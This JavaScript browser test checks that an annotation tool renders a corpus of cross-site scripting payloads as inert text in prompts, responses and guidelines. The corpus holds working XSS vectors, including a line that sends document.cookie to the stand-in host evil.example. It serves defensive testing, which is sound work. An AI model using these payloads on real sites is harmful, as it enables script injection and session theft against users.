// Hostile HTML in prompts, responses and guidelines renders inert: no
// dialog, no request to a foreign URL, no script run, no live markup.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import {
  checkModuleBuilt, startBackend, launch, tempDir, routeTasks, annotateUrl, waitState, answerByKeyboard, waitAllSent,
} from './lib/harness.mjs';

const EVIL = 'http://evil.example';
const CORPUS = [
  '<script>alert("script")</script>',
  '<img src=x onerror="alert(\'img onerror\')">',
  `<img src="${EVIL}/pixel.png">`,
  `![tracking pixel](${EVIL}/md-image.png)`,
  '[click me](javascript:alert("md link"))',
  '[click me](JaVaScRiPt:alert("md link case"))',
  '[data link](data:text/html,<script>alert("data")</script>)',
  '<a href="javascript:alert(\'a href\')">a</a>',
  '<svg onload="alert(\'svg\')"><circle r="10"/></svg>',
  '<iframe src="javascript:alert(\'iframe\')"></iframe>',
  '<iframe srcdoc="<script>parent.alert(\'srcdoc\')</script>"></iframe>',
  `<style>@import url(${EVIL}/import.css); body { background: url(${EVIL}/bg.png) }</style>`,
  `<div style="background-image: url(${EVIL}/div-bg.png)">styled</div>`,
  `<form action="${EVIL}/steal"><input name=q value=1><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0; url=${EVIL}/refresh">`,
  `<link rel="stylesheet" href="${EVIL}/link.css">`,
  `<object data="${EVIL}/object.swf"></object><embed src="${EVIL}/embed.swf">`,
  '<details open ontoggle="alert(\'details\')">x</details>',
  `<base href="${EVIL}/">`,
  '<math><mtext><table><mglyph><style><img src=x onerror=alert("mxss")>',
  '"><img src=x onerror=alert("attr break")>',
  '<noscript><p title="</noscript><img src=x onerror=alert(\'noscript\')>">',
  '<a href="&#106;avascript:alert(\'entity\')">entity</a>',
  '<video><source onerror="alert(\'video\')"></video><audio src=x onerror="alert(\'audio\')"></audio>',
  `<input autofocus onfocus="fetch('${EVIL}/focus')">`,
  '```html\n<script>alert("in a code block")</script>\n```',
  `<script>fetch("${EVIL}/exfil?c=" + document.cookie)</script>`,
  '<img src=x onerror="window.top.__pwned = 1">',
];

let backend; let browser; let file; let ids;

before(async () => {
  checkModuleBuilt();
  const dir = tempDir();
  const examples = CORPUS.map((payload, i) => ({
    id: `xss-${String(i + 1).padStart(2, '0')}`,
    prompt: `Payload ${i + 1}: ${payload}`,
    response_a: `Canonical A: ${payload}\n\n${CORPUS[(i + 1) % CORPUS.length]}`,
    response_b: `Canonical B: **bold** ${payload}`,
  }));
  ids = examples.map((e) => e.id);
  const task = { task_id: 'xss', guidelines: `Guidelines ${CORPUS.join('\n\n')}`, examples, config: { batch_size: CORPUS.length } };
  file = path.join(dir, 'xss.json');
  fs.writeFileSync(file, JSON.stringify(task));
  backend = await startBackend({ tasks: [file] });
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await backend?.close();
});

test('an XSS corpus in prompts, responses and guidelines renders inert', async () => {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  await routeTasks(context, backend.url, [file]);
  const page = await context.newPage();
  const dialogs = [];
  const foreign = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss().catch(() => {}); });
  context.on('request', (r) => { if (!r.url().startsWith(backend.url)) foreign.push(r.url()); });
  await page.goto(annotateUrl(backend.url, { task: 'test-tasks/xss.json', endpoint: `${backend.url}/api/annotations`, annotator: 'xss-1', grace: '10' }));
  await waitState(page, 'item');
  await page.evaluate(() => { document.querySelector('prefkit-annotator').shadowRoot.getElementById('guidelines').open = true; });

  const live = () => page.evaluate(() => {
    const root = document.querySelector('prefkit-annotator').shadowRoot;
    const found = [];
    for (const md of root.querySelectorAll('.md')) {
      for (const el of md.querySelectorAll('*')) {
        if (/^(SCRIPT|IMG|SVG|IFRAME|STYLE|FORM|INPUT|BUTTON|META|LINK|OBJECT|EMBED|BASE|MATH|VIDEO|AUDIO|SOURCE|DETAILS|NOSCRIPT)$/i.test(el.tagName)) found.push(el.tagName);
        for (const a of el.attributes) {
          if (/^on/i.test(a.name) || a.name === 'style' || a.name === 'srcdoc') found.push(`${el.tagName}[${a.name}]`);
          if ((a.name === 'href' || a.name === 'src' || a.name === 'action') && !/^(https?:|mailto:)/i.test(a.value)) found.push(`${el.tagName}[${a.name}=${a.value}]`);
        }
      }
    }
    return found;
  });

  const seen = [];
  let shownPayloadText = false;
  for (let i = 0; i < ids.length; i++) {
    await waitState(page, 'item');
    seen.push(...await live());
    if (!shownPayloadText) {
      shownPayloadText = await page.evaluate(() => /<script>|onerror=/.test(document.querySelector('prefkit-annotator').shadowRoot.getElementById('prompt').textContent));
    }
    await answerByKeyboard(page, () => 3, { limit: 1 });
  }
  assert.equal(await waitState(page, 'done'), 'done');
  await waitAllSent(page, ids.length);
  await new Promise((r) => setTimeout(r, 300));
  assert.deepEqual(seen, [], 'no live markup from the data');
  assert.deepEqual(dialogs, [], 'no dialog opened');
  assert.deepEqual(foreign, [], 'no request to a foreign URL');
  assert.equal(await page.evaluate(() => window.__pwned), undefined, 'no script ran');
  assert.ok(shownPayloadText, 'the payloads are shown as text');
  await context.close();
});
